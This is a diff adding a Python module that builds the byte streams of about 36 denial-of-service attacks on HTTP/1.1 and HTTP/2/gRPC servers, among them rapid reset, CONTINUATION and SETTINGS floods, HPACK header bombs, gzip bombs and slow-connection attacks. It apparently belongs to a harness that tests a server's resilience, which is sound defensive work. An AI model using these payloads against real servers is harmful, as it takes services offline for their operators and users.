@@ -1,0 +1,278 @@
+"""The attacks, each as what one connection sends."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from dataclasses import dataclass
+
+import hpack
+
+from attacks import bytes_on_the_wire as wire
+from attacks.bytes_on_the_wire import MIB, frame, greeting, headers
+
+
+@dataclass(frozen=True, slots=True)
+class Ammunition:
+    """What a connection sends: `opening` once, then `blob`, again and again if `endless`."""
+
+    opening: bytes = b""
+    blob: bytes = b""
+    endless: bool = True
+
+
+@dataclass(frozen=True, slots=True)
+class Weapon:
+    """An attack. `load` builds its bytes, which may take a moment, in the attacker's process."""
+
+    load: Callable[[], Ammunition]
+    connections: int = 8
+    #: Whether the attacker reads what the server answers.
+    reads: bool = True
+    #: Bytes that a connection sends every 100 ms; 0 is as fast as it can.
+    trickle: int = 0
+    #: Whether a connection that was closed, or has sent all, is opened anew.
+    reconnects: bool = True
+    #: SO_RCVBUF of the attacker.
+    receive_buffer: int | None = None
+    #: What the server's memory may grow by, in MiB, where the body size that it allows is more than the common mark.
+    memory: int = 64
+
+
+def repeated(piece: bytes, size: int = MIB // 4) -> bytes:
+    return piece * max(1, size // len(piece))
+
+
+def rapid_reset_http() -> Ammunition:
+    encoder = hpack.Encoder()
+    what = wire.fields("GET", "/v2/health/ready")
+    streams = range(1, 40_001, 2)
+    return Ammunition(greeting(), b"".join(headers(encoder, n, what, end=True) + wire.reset(n) for n in streams), endless=False)
+
+
+def rapid_reset_grpc() -> Ammunition:
+    encoder = hpack.Encoder()
+    message = wire.add1_message()
+    blob = b"".join(
+        headers(encoder, n, wire.GRPC_FIELDS, end=False) + wire.data(n, message, end=True) + wire.reset(n) for n in range(1, 40_001, 2)
+    )
+    return Ammunition(greeting(), blob, endless=False)
+
+
+def made_you_reset() -> Ammunition:
+    """The server is made to reset by a window increment of 0, after it took the whole request."""
+    encoder = hpack.Encoder()
+    message = wire.add1_message()
+    blob = b"".join(
+        headers(encoder, n, wire.GRPC_FIELDS, end=False) + wire.data(n, message, end=True) + wire.window_update(n, 0)
+        for n in range(1, 40_001, 2)
+    )
+    return Ammunition(greeting(), blob, endless=False)
+
+
+def requests_flood() -> Ammunition:
+    """Calls without an end to the streams: more than the server announced to take at once."""
+    encoder = hpack.Encoder()
+    return Ammunition(greeting(), b"".join(headers(encoder, n, wire.GRPC_FIELDS, end=False) for n in range(1, 40_001, 2)), endless=False)
+
+
+def settings_flood() -> Ammunition:
+    return Ammunition(greeting(), repeated(wire.settings((wire.INITIAL_WINDOW_SIZE, 65535))))
+
+
+def empty_settings_flood() -> Ammunition:
+    return Ammunition(greeting(), repeated(wire.settings()))
+
+
+def settings_with_open_streams() -> Ammunition:
+    """Every change of the initial window touches all open streams, each with an answer that waits for its window."""
+    encoder = hpack.Encoder()
+    opened = b"".join(headers(encoder, n, wire.fields("GET", "/"), end=True) for n in range(1, 201, 2))
+    change = wire.settings((wire.INITIAL_WINDOW_SIZE, 0)) + wire.settings((wire.INITIAL_WINDOW_SIZE, 1))
+    return Ammunition(greeting((wire.INITIAL_WINDOW_SIZE, 0)) + opened, repeated(change))
+
+
+def ping_flood() -> Ammunition:
+    return Ammunition(greeting(), repeated(frame(wire.PING, 0, 0, bytes(8))))
+
+
+def priority_flood() -> Ammunition:
+    return Ammunition(greeting(), b"".join(frame(wire.PRIORITY, 0, n, b"\0\0\0\0\x10") for n in range(1, 40_001, 2)))
+
+
+def unknown_flood() -> Ammunition:
+    return Ammunition(greeting(), repeated(frame(0x77, 0, 0)))
+
+
+def empty_data() -> Ammunition:
+    return Ammunition(greeting() + headers(hpack.Encoder(), 1, wire.GRPC_FIELDS, end=False), repeated(frame(wire.DATA, 0, 1)))
+
+
+def padded_data() -> Ammunition:
+    """One byte of body and 255 of padding in each frame; stops when the window is used up."""
+    piece = frame(wire.DATA, 0x8, 1, b"\xff" + b"x" + bytes(255))
+    return Ammunition(greeting() + headers(hpack.Encoder(), 1, wire.GRPC_FIELDS, end=False), repeated(piece))
+
+
+def empty_continuation() -> Ammunition:
+    block = hpack.Encoder().encode(wire.GRPC_FIELDS)
+    return Ammunition(greeting() + frame(wire.HEADERS, 0, 1, block), repeated(frame(wire.CONTINUATION, 0, 1)))
+
+
+def continuation_flood() -> Ammunition:
+    """A header block that never ends: literals without indexing, 16 KiB a frame."""
+    literal = b"\x00\x03x-a\x7f\x81\x7f" + b"y" * 256
+    return Ammunition(
+        greeting() + frame(wire.HEADERS, 0, 1, hpack.Encoder().encode(wire.GRPC_FIELDS)),
+        repeated(frame(wire.CONTINUATION, 0, 1, (literal * 62)[:16384])),
+    )
+
+
+def window_update_flood() -> Ammunition:
+    return Ammunition(greeting(), repeated(wire.window_update(0, 1)))
+
+
+def window_dribble() -> Ammunition:
+    """100 calls of 1 KB each that are answered with 600 KB, taken one byte at a time."""
+    encoder = hpack.Encoder()
+    body = wire.zipped_ident_message()
+    what = [*wire.GRPC_FIELDS, ("grpc-encoding", "gzip")]
+    opened = b"".join(headers(encoder, n, what, end=False) + wire.data(n, body, end=True) for n in range(1, 201, 2))
+    return Ammunition(greeting((wire.INITIAL_WINDOW_SIZE, 0)) + opened, b"".join(wire.window_update(n, 1) for n in range(1, 201, 2)))
+
+
+def unread_http1() -> Ammunition:
+    """Questions of 1 KB that are answered with 600 KB."""
+    return Ammunition(b"", repeated(wire.zipped_ident_request()))
+
+
+def unread_metadata() -> Ammunition:
+    return Ammunition(b"", repeated(b"GET /v2/models/ident/config HTTP/1.1\r\nHost: x\r\n\r\n"))
+
+
+def unread_http2() -> Ammunition:
+    """Large windows, thousands of questions, nothing read."""
+    encoder = hpack.Encoder()
+    opening = greeting((wire.INITIAL_WINDOW_SIZE, 2**31 - 1)) + wire.window_update(0, 2**31 - 1 - 65535)
+    what = wire.fields("GET", "/v2/models/ident/config")
+    return Ammunition(opening, b"".join(headers(encoder, n, what, end=True) for n in range(1, 100_001, 2)), endless=False)
+
+
+def header_bomb() -> Ammunition:
+    """A field of 4,000 bytes in the dynamic table, then blocks of 16,000 references to it: 64 MB each."""
+    encoder = hpack.Encoder()
+    first = encoder.encode(wire.fields("GET", "/", ("x-bomb", "b" * 3900)))
+    blocks = [frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 1, first)]
+    again = encoder.encode(wire.fields("GET", "/")) + b"\xbe" * 16000
+    blocks += [frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, n, again) for n in range(3, 41, 2)]
+    return Ammunition(greeting(), b"".join(blocks), endless=False)
+
+
+def ten_thousand_fields() -> Ammunition:
+    encoder = hpack.Encoder()
+    block = encoder.encode(wire.fields("GET", "/")) + b"\x00\x01a\x00" * 4000
+    return Ammunition(greeting(), b"".join(frame(wire.HEADERS, 5, n, block) for n in range(1, 101, 2)), endless=False)
+
+
+def huge_head() -> Ammunition:
+    return Ammunition(b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: ", b"y" * (MIB // 4))
+
+
+def many_fields() -> Ammunition:
+    return Ammunition(b"GET / HTTP/1.1\r\nHost: x\r\n", repeated(b"X: y\r\n"))
+
+
+def gzip_bomb_http() -> Ammunition:
+    return Ammunition(b"", wire.post(wire.ADD1, wire.bomb(), "Content-Encoding: gzip"))
+
+
+def gzip_bomb_grpc() -> Ammunition:
+    """A message of 64 KB, which the first window lets through, of 64 MB."""
+    encoder = hpack.Encoder()
+    what = [*wire.GRPC_FIELDS, ("grpc-encoding", "gzip")]
+    body = wire.grpc_message(wire.bomb(size=63 * MIB), compressed=True)
+    blob = b"".join(headers(encoder, n, what, end=False) + wire.data(n, body, end=True) for n in range(1, 21, 2))
+    return Ammunition(greeting(), blob, endless=False)
+
+
+def slow_heads() -> Ammunition:
+    return Ammunition(b"GET / HTTP/1.1\r\nHost: x\r\n", b"X-A: b\r\n" * 40)
+
+
+def slow_bodies() -> Ammunition:
+    return Ammunition(f"POST {wire.ADD1} HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n".encode(), b"x" * 1000)
+
+
+def slow_frames() -> Ammunition:
+    return Ammunition(greeting(), frame(wire.PING, 0, 0, bytes(8)))
+
+
+def silent() -> Ammunition:
+    return Ammunition()
+
+
+def endless_body() -> Ammunition:
+    chunk = b"10000\r\n" + bytes(65536) + b"\r\n"
+    return Ammunition(f"POST {wire.ADD1} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode(), repeated(chunk))
+
+
+def tiny_chunks() -> Ammunition:
+    return Ammunition(f"POST {wire.ADD1} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode(), repeated(b"1\r\nx\r\n"))
+
+
+def pipelined() -> Ammunition:
+    return Ammunition(b"", repeated(b"GET /v2/health/ready HTTP/1.1\r\nHost: x\r\n\r\n"))
+
+
+def pipelined_inference() -> Ammunition:
+    return Ammunition(b"", repeated(wire.add1_request()))
+
+
+def pipelined_garbage() -> Ammunition:
+    return Ammunition(b"", repeated(b"G\x00T / HTTP/1.1\r\n\r\n"), endless=False)
+
+
+def connection_flood() -> Ammunition:
+    return Ammunition(b"", b"GET /v2/health/ready HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", endless=False)
+
+
+#: Buffers of the body size that a server allows are not an attack's fault: 4 connections of 64 MiB.
+BODIES = 4 * 64 + 64
+
+WEAPONS = {
+    "rapid reset, HTTP": Weapon(rapid_reset_http),
+    "rapid reset, gRPC": Weapon(rapid_reset_grpc),
+    "made-you-reset": Weapon(made_you_reset),
+    "streams beyond the limit": Weapon(requests_flood),
+    "SETTINGS flood": Weapon(settings_flood),
+    "empty SETTINGS flood": Weapon(empty_settings_flood),
+    "SETTINGS with open streams": Weapon(settings_with_open_streams),
+    "PING flood": Weapon(ping_flood),
+    "PRIORITY flood": Weapon(priority_flood),
+    "unknown frames flood": Weapon(unknown_flood),
+    "empty DATA": Weapon(empty_data),
+    "padded DATA": Weapon(padded_data),
+    "empty CONTINUATION": Weapon(empty_continuation),
+    "CONTINUATION flood": Weapon(continuation_flood),
+    "WINDOW_UPDATE flood": Weapon(window_update_flood),
+    "window dribble": Weapon(window_dribble),
+    "unread answers, HTTP/1.1": Weapon(unread_http1, reads=False, receive_buffer=4096),
+    "unread small answers, HTTP/1.1": Weapon(unread_metadata, reads=False, receive_buffer=4096),
+    "unread answers, HTTP/2": Weapon(unread_http2, reads=False, receive_buffer=4096),
+    "unread PING answers": Weapon(ping_flood, reads=False, receive_buffer=4096),
+    "header bomb": Weapon(header_bomb),
+    "4,000 fields": Weapon(ten_thousand_fields),
+    "huge head": Weapon(huge_head),
+    "endless fields": Weapon(many_fields),
+    "gzip bomb, HTTP": Weapon(gzip_bomb_http, connections=4),
+    "gzip bomb, gRPC": Weapon(gzip_bomb_grpc, connections=4),
+    "slow heads": Weapon(slow_heads, connections=500, trickle=8),
+    "slow bodies": Weapon(slow_bodies, connections=500, trickle=8),
+    "slow frames": Weapon(slow_frames, connections=500, trickle=1),
+    "2,000 silent connections": Weapon(silent, connections=2000, reconnects=False),
+    "connection flood": Weapon(connection_flood),
+    "endless bodies": Weapon(endless_body, connections=4, memory=BODIES),
+    "tiny chunks": Weapon(tiny_chunks),
+    "pipelined requests": Weapon(pipelined),
+    "pipelined inference": Weapon(pipelined_inference),
+    "pipelined garbage": Weapon(pipelined_garbage),
+}
